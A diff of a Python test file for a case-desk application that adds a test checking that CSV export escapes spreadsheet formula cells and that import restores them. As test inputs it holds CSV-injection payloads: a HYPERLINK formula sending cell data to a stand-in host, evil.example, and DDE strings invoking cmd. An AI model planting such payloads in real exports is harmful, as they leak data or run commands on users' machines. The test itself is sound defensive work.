@@ -2,15 +2,18 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
+import os
+import uuid
 from collections.abc import Iterator
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
 import pytest
-from sqlalchemy import event, func, select
+from sqlalchemy import create_engine, event, func, make_url, select, text
 from sqlalchemy.exc import DataError
 from sqlmodel import col
 
@@ -477,11 +480,81 @@ def test_an_older_database_with_a_poisoned_counter_numbers_on(source: Desk) -> N
     today = desk.calendar.local_date(datetime.now(UTC)).strftime("%Y%m%d")
     first = register(desk)
     end = 9223372036854775807 if desk.engine.dialect.name == "sqlite" else 2147483647
+    from alembic import command
+
+    cfg = schema.alembic_config(url)
     with desk.engine.begin() as conn:
+        cfg.attributes["connection"] = conn
+        command.downgrade(cfg, "0008")  # before the counters were mended
         conn.execute(text(f"UPDATE case_counters SET last = {end}"))
-        conn.execute(text("UPDATE alembic_version SET version_num = '0008'"))
     again = Desk.open(Settings(db=url))
     assert schema.current_revision(again.engine) == schema.HEAD
     assert first == f"KS-{today}-0001"
     assert register(again) == f"KS-{today}-0002"
     again.close()
+
+
+# -- CSV cells a spreadsheet would run (issue 11.5) --------------------------------------------
+
+# What a spreadsheet runs when a cell starts with it (OWASP "CSV Injection"); a leading tab or
+# carriage return cannot be stored (every text field is stripped), tests/unit/test_text.py has them.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def twin(source: Desk, request: pytest.FixtureRequest) -> Iterator[Desk]:
+    """A second, empty database on the same engine as ``source``."""
+    if source.engine.dialect.name == "sqlite":
+        desk = open_desk(f"sqlite:///{Path(str(source.engine.url.database)).with_name('twin.db')}")
+        yield desk
+        desk.close()
+        return
+    base = make_url(os.environ["KESU_DESK_TEST_PG_URL"])
+    schema = f"kesu_test_{uuid.uuid4().hex[:12]}"
+    admin = create_engine(base)
+    with admin.begin() as conn:
+        conn.execute(text(f"CREATE SCHEMA {schema}"))
+    desk = open_desk(base.update_query_dict({"options": f"-csearch_path={schema}"})
+                     .render_as_string(hide_password=False))
+    try:
+        yield desk
+    finally:
+        desk.close()
+        with admin.begin() as conn:
+            conn.execute(text(f"DROP SCHEMA {schema} CASCADE"))
+        admin.dispose()
+
+
+def jsonl(desk: Desk) -> list[dict[str, Any]]:
+    out = io.StringIO()
+    export_cases(desk, out, "jsonl")
+    return [json.loads(line) for line in out.getvalue().splitlines()]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_import_undoes_it(
+    source: Desk, twin: Desk, tmp_path: Path
+) -> None:
+    for start in ("=", "+", "-", "@", "'", "'=", "''"):
+        register(
+            source, customer_name=f"{start}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            email="" if start == "@" else f"{start}wang@example.com",
+            product=f"{start}cmd|' /C calc'!A0", order_no=f"{start}1+1", batch=f"{start}B7",
+            category=f"{start}quality", description=f"{start}SUM(A1:A9)",
+            customer_request=f"{start}2+5+cmd|' /C calc'!A0",
+        )
+    register(source, description="-5", customer_request="-12.50")  # numbers stay numbers
+    path = tmp_path / "cases.csv"
+    with path.open("w", encoding="utf-8", newline="") as out:
+        assert export_cases(source, out, "csv") == 8
+
+    with path.open(encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    running = [c for c in cells if c.startswith(FORMULA_STARTS) and c not in ("-5", "-12.50")]
+    assert running == []
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
+    assert "''=SUM(A1:A9)" in cells and "'''SUM(A1:A9)" in cells and "'+86 13800138000" not in cells
+    assert "'+8613800138000" in cells  # a phone in E.164 starts with +
+
+    report = import_cases(twin, path, "ag")
+    assert report == ImportReport(8, 0, [])
+    assert jsonl(twin) == jsonl(source)
